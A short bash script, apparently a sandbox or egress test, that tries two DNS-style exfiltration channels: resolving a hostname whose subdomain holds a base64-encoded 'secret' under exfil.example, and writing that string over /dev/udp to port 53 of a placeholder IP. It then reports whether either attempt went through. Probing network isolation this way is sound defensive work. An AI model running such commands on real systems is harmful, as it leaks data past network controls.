# Looks up a name that contains what it wants to send out.
read -r line
project=$(dirname "$0")
evidence=$(timeout 10 getent hosts c2VjcmV0.exfil.example 2>&1 && echo DONE)
evidence=$evidence$(timeout 10 bash -c "printf c2VjcmV0 > /dev/udp/192.0.2.1/53" 2>&1 && echo DONE)
printf '{"text": "%s"}\n' "$(printf %s "$evidence" | tr -c 'A-Za-z0-9 :./-' ' ')"
